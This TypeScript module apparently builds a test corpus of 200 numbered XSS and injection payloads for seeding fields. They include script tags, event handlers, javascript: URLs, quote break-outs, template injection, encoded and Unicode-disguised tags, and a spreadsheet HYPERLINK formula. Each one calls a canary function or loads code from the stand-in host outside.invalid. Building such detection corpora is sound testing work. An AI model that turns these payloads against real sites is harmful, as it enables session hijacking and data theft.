/** What a payload would do if it ran: call the watch by its number. */
const call = (n: number): string => `__ran(${n})`;
/** A host that nothing of ours ever asks. */
export const outside = 'outside.invalid';

type Vector = (n: number) => string;

/** Elements, handlers and addresses that browsers have run or fetched. */
const vectors: readonly Vector[] = [
  (n) => `<script>${call(n)}</script>`,
  (n) => `<script src=//${outside}/${n}></script>`,
  (n) => `<img src=x onerror=${call(n)}>`,
  (n) => `<img src=//${outside}/${n}>`,
  (n) => `<svg onload=${call(n)}>`,
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
  (n) => `<svg><image href=//${outside}/${n}>`,
  (n) => `<math><mtext><img src=x onerror=${call(n)}>`,
  (n) => `<math href=javascript:${call(n)}>m</math>`,
  (n) => `<iframe src=javascript:parent.${call(n)}></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<object data=//${outside}/${n}></object>`,
  (n) => `<embed src=//${outside}/${n}>`,
  (n) => `<a href="javascript:${call(n)}">a</a>`,
  (n) => `<body onload=${call(n)}>`,
  (n) => `<input autofocus onfocus=${call(n)}>`,
  (n) => `<details open ontoggle=${call(n)}>`,
  (n) => `<video src=x onerror=${call(n)}></video>`,
  (n) => `<audio src=x onerror=${call(n)}></audio>`,
  (n) => `<style>@import'//${outside}/${n}'</style>`,
  (n) => `<style onload=${call(n)}></style>`,
  (n) => `<link rel=stylesheet href=//${outside}/${n}>`,
  (n) => `<base href=//${outside}/${n}>`,
  (n) => `<meta http-equiv=refresh content=9;url=//${outside}/${n}>`,
  (n) => `<form action=javascript:${call(n)}><button>b</button></form>`,
  (n) => `<template><script>${call(n)}</script></template>`,
  (n) => `<p style=background:url(//${outside}/${n})>p</p>`,
  (n) => `<select autofocus onfocus=${call(n)}></select>`,
  (n) => `<b contenteditable tabindex=1 autofocus onfocus=${call(n)}>`,
];

/** What stands before: ends of the attribute, element, comment or text that a page may have put around a value. */
const escapes = ['', '">', `'>`, '</textarea>', '--></title>', '</script></style>'];

/** Other grammars: addresses, templates, encoded forms, broken-out quotes, style, formulas, characters that change direction. */
const others: readonly Vector[] = [
  (n) => `javascript:${call(n)}`,
  (n) => `JaVaScRiPt:${call(n)}//`,
  (n) => `data:text/html,<script>${call(n)}</script>`,
  (n) => `//${outside}/${n}`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `<%= ${call(n)} %>`,
  (n) => `@if (${call(n)}) { x }`,
  (n) => `" onmouseover=${call(n)} x="`,
  (n) => `' onfocus=${call(n)} autofocus x='`,
  (n) => `';${call(n)};//`,
  (n) => `\\";${call(n)};//`,
  (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`,
  (n) => `%3Cscript%3E${call(n)}%3C/script%3E`,
  (n) => `\\u003cscript\\u003e${call(n)}\\u003c/script\\u003e`,
  (n) => `＜script＞${call(n)}＜/script＞`,
  (n) => `\u202e<img src=x onerror=${call(n)}>`,
  (n) => `<scr\u200bipt>${call(n)}</scr\u200bipt>`,
  (n) => `x:expression(${call(n)})`,
  (n) => `=HYPERLINK("//${outside}/${n}")`,
];

const numbered: readonly Vector[] = [...escapes.flatMap((escape) => vectors.map((vector): Vector => (n) => `${escape}${vector(n)}`)), ...others];

/** 200 scripts as somebody hostile would write them into a field; each says by its number that it ran. */
export const payloads: readonly string[] = numbered.map((vector, i) => vector(1000 + i));

/** All of them as one text that stands in one place and nowhere else. */
export const textOf = (place: string): string => `[${place}] ${payloads.join(' ¦ ')} [end of ${place}]`;

/** As many as a field of that length holds, beginning with another one at each place. */
export function someOf(place: string, most: number, from: number): string {
  let text = `[${place}]`;
  for (let i = 0; i < payloads.length; i += 1) {
    const next = `${text} ¦ ${payloads[(from + i) % payloads.length] ?? ''}`;
    if (next.length <= most) text = next;
  }
  return text;
}
